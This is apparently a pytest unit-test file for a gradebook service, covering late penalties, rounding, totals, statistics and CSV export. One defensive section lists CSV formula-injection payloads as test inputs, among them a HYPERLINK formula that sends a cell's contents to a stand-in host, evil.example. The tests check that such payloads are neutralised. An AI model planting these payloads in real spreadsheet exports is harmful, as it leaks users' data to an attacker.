"""The gradebook: cells, penalties, totals, statistics and the CSV export (pure, no database)."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal as D

import pytest

from services.grades import gradebook as gb

pytestmark = pytest.mark.unit

T0 = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)


def assignment(slug, max_points=10, days=0, title=None, due=True):
    return {
        "slug": slug,
        "title": title if title is not None else slug.upper(),
        "max_points": max_points,
        "due_at": T0 + timedelta(days=days) if due else None,
    }


def grade(username, slug, points=None, submitted=True, late=False, penalty=0):
    return {
        "username": username,
        "slug": slug,
        "points": points,
        "submitted": submitted,
        "late": late,
        "penalty_percent": penalty,
    }


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


# -- penalties and rounding ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("points", "penalty", "expected"),
    [
        (D("10"), D("10"), D("9.00")),
        (D("7.5"), D("10"), D("6.75")),
        (D("0.05"), D("50"), D("0.03")),  # 0.025 -> half up, not banker's 0.02
        (D("0.15"), D("50"), D("0.08")),  # 0.075 -> 0.08
        (D("3.35"), D("50"), D("1.68")),  # 1.675 -> 1.68
        (D("10"), D("33.333"), D("6.67")),
        (D("10"), D("100"), D("0.00")),
        (D("10"), D("0"), D("10.00")),
    ],
)
def test_late_penalty_half_up(points, penalty, expected):
    book = gb.build_gradebook(
        ["ann"], [assignment("a1")], [grade("ann", "a1", points, late=True, penalty=penalty)]
    )
    cell = book.cell("ann", "a1")
    assert cell.state == gb.GRADED
    assert cell.points == expected
    assert str(cell.points) == str(expected)  # always cents
    assert cell.raw_points == points
    assert cell.late is True
    assert cell.penalty_percent == penalty


def test_penalty_only_for_late_work():
    book = gb.build_gradebook(
        ["ann"], [assignment("a1")], [grade("ann", "a1", D("8"), late=False, penalty=50)]
    )
    cell = book.cell("ann", "a1")
    assert (cell.points, cell.late, cell.penalty_percent) == (D("8.00"), False, D(0))


def test_floats_read_as_their_decimal_text():
    book = gb.build_gradebook(
        ["ann"],
        [assignment("a1", max_points=0.3)],
        [grade("ann", "a1", 0.1, late=True, penalty=12.5)],
    )
    assert book.assignments[0].max_points == D("0.3")
    cell = book.cell("ann", "a1")
    assert cell.raw_points == D("0.1")
    assert cell.points == D("0.09")  # 0.0875 -> 0.09
    assert isinstance(cell.points, D)


def test_raw_points_rounded_to_cents_half_up():
    book = gb.build_gradebook(["ann"], [assignment("a1")], [grade("ann", "a1", D("2.345"))])
    assert book.cell("ann", "a1").points == D("2.35")
    assert book.cell("ann", "a1").raw_points == D("2.345")


def test_penalty_none_means_zero():
    book = gb.build_gradebook(
        ["ann"], [assignment("a1")], [grade("ann", "a1", 4, late=True, penalty=None)]
    )
    assert book.cell("ann", "a1").points == D("4.00")


@pytest.mark.parametrize("penalty", [-1, D("100.01"), 250])
def test_penalty_out_of_range_is_an_error(penalty):
    with pytest.raises(ValueError, match="penalty_percent"):
        gb.build_gradebook(
            ["ann"], [assignment("a1")], [grade("ann", "a1", 4, late=True, penalty=penalty)]
        )


@pytest.mark.parametrize("points", [-1, D("-0.01"), float("nan"), float("inf"), "abc", True])
def test_bad_points_are_an_error(points):
    with pytest.raises(ValueError, match="points"):
        gb.build_gradebook(["ann"], [assignment("a1")], [grade("ann", "a1", points)])


def test_bad_assignments_are_an_error():
    with pytest.raises(ValueError, match="negative"):
        gb.build_gradebook([], [assignment("a1", max_points=-5)], [])
    with pytest.raises(ValueError, match="a1"):
        gb.build_gradebook([], [assignment("a1"), assignment("a1", days=1)], [])


# -- cells --------------------------------------------------------------------------------


def test_cell_states():
    book = gb.build_gradebook(
        ["ann", "bob", "cy", "dee"],
        [assignment("a1")],
        [
            grade("ann", "a1", D("9"), late=True, penalty=10),
            grade("bob", "a1", None, submitted=True, late=True),
            grade("cy", "a1", None, submitted=False, late=True),  # no work: not late
        ],
    )
    ann, bob, cy, dee = (book.cell(u, "a1") for u in ("ann", "bob", "cy", "dee"))
    assert (ann.state, ann.points, ann.raw_points, ann.late) == (gb.GRADED, D("8.10"), D(9), True)
    assert (bob.state, bob.points, bob.submitted, bob.late) == (gb.SUBMITTED, None, True, True)
    assert (cy.state, cy.points, cy.late) == (gb.MISSING, None, False)
    assert (dee.state, dee.points, dee.submitted, dee.late) == (gb.MISSING, None, False, False)


def test_graded_without_a_submission_is_graded():
    book = gb.build_gradebook(["ann"], [assignment("a1")], [grade("ann", "a1", 0, submitted=False)])
    cell = book.cell("ann", "a1")
    assert (cell.state, cell.points, cell.submitted) == (gb.GRADED, D("0.00"), False)
    assert book.row("ann").percentage == D("0.00")


def test_last_row_for_a_pair_wins():
    book = gb.build_gradebook(
        ["ann"],
        [assignment("a1")],
        [grade("ann", "a1", None), grade("ann", "a1", 7), grade("ann", "a1", 6)],
    )
    assert book.cell("ann", "a1").points == D("6.00")
    assert book.stats_for("a1").graded == 1


# -- totals and percentages -----------------------------------------------------------------


def test_totals_and_percentage():
    assignments = [
        assignment("a1", 10, days=1),
        assignment("a2", D("20"), days=2),
        assignment("a3", D("12.5"), days=3),
    ]
    book = gb.build_gradebook(
        ["ann", "bob", "cy"],
        assignments,
        [
            grade("ann", "a1", D("10")),
            grade("ann", "a2", D("15"), late=True, penalty=20),  # 12.00
            grade("ann", "a3", None),
            grade("bob", "a2", D("19.5")),
        ],
    )
    ann, bob, cy = book.rows
    assert (ann.earned, ann.possible_graded, ann.possible_all) == (D("22"), D("30"), D("42.5"))
    assert ann.percentage == D("73.33")  # 22 / 30
    assert (bob.earned, bob.possible_graded, bob.percentage) == (D("19.5"), D("20"), D("97.50"))
    assert (cy.earned, cy.possible_graded, cy.possible_all) == (D(0), D(0), D("42.5"))
    assert cy.percentage is None
    assert ann.late_slugs == ("a2",)
    for value in (ann.earned, ann.possible_graded, ann.possible_all, ann.percentage):
        assert isinstance(value, D)


def test_percentage_rounds_half_up():
    book = gb.build_gradebook(
        ["ann"], [assignment("a1", max_points=8)], [grade("ann", "a1", D("0.01"))]
    )
    assert book.row("ann").percentage == D("0.13")  # 0.125 -> 0.13


def test_percentage_over_assignments_worth_nothing_is_none():
    book = gb.build_gradebook(
        ["ann"], [assignment("practice", max_points=0)], [grade("ann", "practice", 0)]
    )
    assert book.row("ann").percentage is None
    assert book.cell("ann", "practice").state == gb.GRADED


def test_assignment_stats():
    names = ["u1", "u2", "u3", "u4", "u5"]
    book = gb.build_gradebook(
        names,
        [assignment("a1"), assignment("a2", days=1)],
        [
            grade("u1", "a1", D("10")),
            grade("u2", "a1", D("7")),
            grade("u3", "a1", D("4"), late=True, penalty=50),  # 2.00
            grade("u4", "a1", D("8")),
            grade("u5", "a1", None),
            grade("u1", "a2", D("5")),
            grade("u2", "a2", D("3")),
            grade("u3", "a2", D("6")),
        ],
    )
    s1, s2 = book.stats
    assert (s1.slug, s1.submitted, s1.graded, s1.ungraded, s1.missing) == ("a1", 5, 4, 1, 0)
    assert s1.mean == D("6.75")  # (10 + 7 + 2 + 8) / 4
    assert s1.median == D("7.50")  # even count: (7 + 8) / 2
    assert (s2.submitted, s2.graded, s2.ungraded, s2.missing) == (3, 3, 0, 2)
    assert s2.mean == D("4.67")  # 14 / 3, half up
    assert s2.median == D("5.00")  # odd count: the middle one


def test_stats_without_grades():
    book = gb.build_gradebook(["ann"], [assignment("a1")], [grade("ann", "a1", None)])
    s = book.stats_for("a1")
    assert (s.submitted, s.graded, s.ungraded, s.missing, s.mean, s.median) == (
        1,
        0,
        1,
        0,
        None,
        None,
    )


def test_median_rounds_half_up():
    book = gb.build_gradebook(
        ["a", "b"], [assignment("x")], [grade("a", "x", D("1.01")), grade("b", "x", D("1.02"))]
    )
    assert book.stats_for("x").median == D("1.02")  # 1.015 -> 1.02


# -- ordering, unknown rows, empty class ----------------------------------------------------


def test_ordering():
    book = gb.build_gradebook(
        ["zoe", "Ann", "bob", "bob"],
        [
            assignment("b", days=2),
            assignment("undated-b", due=False),
            assignment("a", days=2),
            assignment("first", days=0),
            assignment("undated-a", due=False),
        ],
        [],
    )
    order = ["first", "a", "b", "undated-a", "undated-b"]
    assert [a.slug for a in book.assignments] == order
    assert [r.username for r in book.rows] == ["Ann", "bob", "zoe"]  # by code point, once each
    assert all([c.slug for c in r.cells] == order for r in book.rows)
    assert [s.slug for s in book.stats] == order


def test_students_without_rows_appear():
    book = gb.build_gradebook(["ann", "bob"], [assignment("a1")], [grade("ann", "a1", 5)])
    bob = book.row("bob")
    assert [c.state for c in bob.cells] == [gb.MISSING]
    assert bob.percentage is None


def test_unknown_students_and_assignments_ignored():
    book = gb.build_gradebook(
        ["ann"],
        [assignment("a1")],
        [
            grade("ghost", "a1", 10),
            grade("ann", "nope", 10),
            grade("ann", "nope", -3),  # not even validated
            {"points": 3},  # no username or slug
            grade("ann", "a1", 4),
        ],
    )
    assert [r.username for r in book.rows] == ["ann"]
    assert [a.slug for a in book.assignments] == ["a1"]
    assert book.row("ann").earned == D("4.00")
    assert book.stats_for("a1").graded == 1
    with pytest.raises(KeyError):
        book.row("ghost")
    with pytest.raises(KeyError):
        book.cell("ann", "nope")


def test_empty_class():
    book = gb.build_gradebook([], [], [grade("ann", "a1", 3)])
    assert (book.assignments, book.rows, book.stats) == ((), (), ())
    assert read_csv(gb.gradebook_csv(book)) == [["Student", "Total", "Possible", "Percent", "Late"]]


def test_students_but_no_assignments():
    book = gb.build_gradebook(["ann"], [], [])
    row = book.row("ann")
    assert (row.cells, row.earned, row.possible_all, row.percentage) == ((), D(0), D(0), None)
    assert read_csv(gb.gradebook_csv(book))[1] == ["ann", "0", "0", "", ""]


def test_assignments_but_no_students():
    book = gb.build_gradebook([], [assignment("a1")], [])
    assert book.rows == ()
    s = book.stats_for("a1")
    assert (s.submitted, s.graded, s.missing, s.mean, s.median) == (0, 0, 0, None, None)


# -- CSV --------------------------------------------------------------------------------------


def sample_book():
    return gb.build_gradebook(
        ["ann", "bob", "cy"],
        [
            assignment("hw1", 10, days=1, title="Homework 1"),
            assignment("hw2", D("12.5"), days=2, title="Homework 2"),
            assignment("exam", D("100"), days=3, title="Exam"),
        ],
        [
            grade("ann", "hw1", D("10")),
            grade("ann", "hw2", D("12.5"), late=True, penalty=D("10")),  # 11.25
            grade("ann", "exam", D("80")),
            grade("bob", "hw1", None, late=True),
            grade("bob", "hw2", D("10.5")),
        ],
    )


def test_csv_bom_and_crlf():
    data = gb.gradebook_csv(sample_book())
    assert isinstance(data, bytes)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 4  # header + 3 students
    assert data.endswith(b"\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"")


def test_csv_header_and_values():
    rows = read_csv(gb.gradebook_csv(sample_book()))
    assert rows == [
        [
            "Student",
            "Homework 1 (10)",
            "Homework 2 (12.5)",
            "Exam (100)",
            "Total",
            "Possible",
            "Percent",
            "Late",
        ],
        ["ann", "10", "11.25", "80", "101.25", "122.5", "82.65", "hw2"],
        ["bob", "ungraded", "10.5", "", "10.5", "12.5", "84", "hw1"],
        ["cy", "", "", "", "0", "0", "", ""],
    ]


def test_csv_has_a_column_per_automatic_test_with_the_counting_versions_scores():
    hw = {**assignment("hw1", 5, title="Squares"), "tests": [("visible", 2), ("hidden", 3)]}
    book = gb.build_gradebook(
        ["ann", "bob", "cy"],
        [hw, assignment("hw2", 10, days=1, title="Essay")],
        [
            {**grade("ann", "hw1", D("2")), "tests": {"visible": D("2"), "hidden": D("0")}},
            # graded with older tests: no result for "hidden"
            {**grade("bob", "hw1", None), "tests": {"visible": 2}},
            grade("cy", "hw2", D("7"), submitted=True),
        ],
    )
    assert book.cell("ann", "hw1").tests == (D("2"), D("0"))
    assert book.cell("bob", "hw1").tests == (D("2"), None)
    assert book.cell("cy", "hw1").tests == ()
    rows = read_csv(gb.gradebook_csv(book))
    assert rows[0] == [
        "Student",
        "Squares (5)",
        "Squares: test visible (2)",
        "Squares: test hidden (3)",
        "Essay (10)",
        "Total",
        "Possible",
        "Percent",
        "Late",
    ]
    assert rows[1][:5] == ["ann", "2", "2", "0", ""]
    assert rows[2][:5] == ["bob", "ungraded", "2", "", ""]
    assert rows[3][:5] == ["cy", "", "", "", "7"]


def test_csv_round_trip_matches_the_book():
    book = sample_book()
    rows = read_csv(gb.gradebook_csv(book))[1:]
    for line, row in zip(rows, book.rows, strict=True):
        assert line[0] == row.username
        for text, cell in zip(line[1 : 1 + len(book.assignments)], row.cells, strict=True):
            if cell.state == gb.GRADED:
                assert D(text) == cell.points
            else:
                assert text == ("ungraded" if cell.state == gb.SUBMITTED else "")
        assert D(line[-4]) == row.earned
        assert D(line[-3]) == row.possible_graded
        assert (D(line[-2]) if line[-2] else None) == row.percentage
        assert line[-1].split() == list(row.late_slugs)


def test_csv_numbers_are_plain():
    book = gb.build_gradebook(
        ["ann"],
        [assignment("a1", D("1E+2")), assignment("a2", D("0.50"), days=1)],
        [grade("ann", "a1", D("1E+2")), grade("ann", "a2", D("0.5"))],
    )
    rows = read_csv(gb.gradebook_csv(book))
    assert rows[0][1:3] == ["A1 (100)", "A2 (0.5)"]
    assert rows[1][:6] == ["ann", "100", "0.5", "100.5", "100.5", "100"]


INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd", "-2+3", "@SUM(A1:A9)"]
INJECTIONS += ["\tx", "\rx"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_formula_injection_in_usernames(text):
    book = gb.build_gradebook([text], [assignment("a1")], [grade(text, "a1", 5)])
    rows = read_csv(gb.gradebook_csv(book))
    assert rows[1][0] == "'" + text
    assert rows[1][1] == "5"  # numbers untouched


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_formula_injection_in_titles(text):
    book = gb.build_gradebook(["ann"], [assignment("a1", 10, title=text)], [])
    rows = read_csv(gb.gradebook_csv(book))
    assert rows[0][1] == f"'{text} (10)"
    assert rows[0][0] == "Student"


@pytest.mark.parametrize("slug", ["-rm", "=1+1", "@x", "+y"])
def test_csv_formula_injection_in_late_list(slug):
    book = gb.build_gradebook(
        ["ann"], [assignment(slug, title="t")], [grade("ann", slug, None, late=True)]
    )
    assert read_csv(gb.gradebook_csv(book))[1][-1] == "'" + slug


def test_csv_every_text_cell_neutralised():
    book = gb.build_gradebook(
        INJECTIONS,
        [assignment(f"s{i}", title=t, days=i) for i, t in enumerate(INJECTIONS)],
        [grade(u, "s0", None, late=True) for u in INJECTIONS],
    )
    for line in read_csv(gb.gradebook_csv(book)):
        for value in line:
            assert not value.startswith(gb.FORMULA_PREFIXES), value


def test_safe_text_leaves_harmless_text_alone():
    for text in ["alice", "Ann-Marie", "a=b", "'quoted", " =x", "", "Ünïcødé"]:
        assert gb.safe_text(text) == text
    assert gb.safe_text("=1") == "'=1"


def test_csv_titles_with_commas_quotes_and_newlines():
    title = 'Lab 1, part "A"\nsecond line\r\nthird; fourth'
    book = gb.build_gradebook(["ann"], [assignment("lab1", 5, title=title)], [])
    data = gb.gradebook_csv(book)
    rows = read_csv(data)
    assert rows[0][1] == f"{title} (5)"
    assert len(rows) == 2  # the newlines stayed inside the quoted cell
    assert b'"Lab 1, part ""A""' in data


def test_csv_unicode_names():
    names = ["zoë", "李小龙", "Ολγα", "👩‍🎓student", "عائشة"]
    book = gb.build_gradebook(
        names,
        [assignment("a1", title="Übung Nr. 1 — Ableitungen ∂f/∂x")],
        [grade("李小龙", "a1", 9)],
    )
    data = gb.gradebook_csv(book)
    data[3:].decode("utf-8")  # strict UTF-8 after the BOM
    rows = read_csv(data)
    assert rows[0][1] == "Übung Nr. 1 — Ableitungen ∂f/∂x (10)"
    assert [r[0] for r in rows[1:]] == sorted(names)
    assert dict((r[0], r[1]) for r in rows[1:])["李小龙"] == "9"


# -- a large class --------------------------------------------------------------------------


def test_large_gradebook():
    students = [f"student{i:03d}" for i in range(300)]
    assignments = [assignment(f"hw{j:02d}", 10, days=j) for j in range(20)]
    grades = []
    for i, u in enumerate(students):
        for j in range(20):
            if (i + j) % 7 == 0:
                continue  # missing
            if (i + j) % 5 == 0:
                grades.append(grade(u, f"hw{j:02d}", None))  # ungraded
            else:
                late = (i * j) % 3 == 0
                grades.append(grade(u, f"hw{j:02d}", D(j % 10 + 1), late=late, penalty=25))
    book = gb.build_gradebook(list(reversed(students)), assignments, grades)

    assert [r.username for r in book.rows] == students
    assert all(len(r.cells) == 20 for r in book.rows)
    for i, row in enumerate(book.rows):
        expected = D(0)
        for j, cell in enumerate(row.cells):
            if (i + j) % 7 == 0:
                assert cell.state == gb.MISSING
            elif (i + j) % 5 == 0:
                assert cell.state == gb.SUBMITTED
            else:
                points = D(j % 10 + 1)
                if (i * j) % 3 == 0:
                    points = (points * D("0.75")).quantize(D("0.01"))
                assert cell.points == points
                expected += points
        assert row.earned == expected
        assert row.possible_all == D(200)
    total_cells = sum(s.graded + s.ungraded + s.missing for s in book.stats)
    assert total_cells == 300 * 20
    rows = read_csv(gb.gradebook_csv(book))
    assert len(rows) == 301
    assert all(len(r) == 1 + 20 + 4 for r in rows)
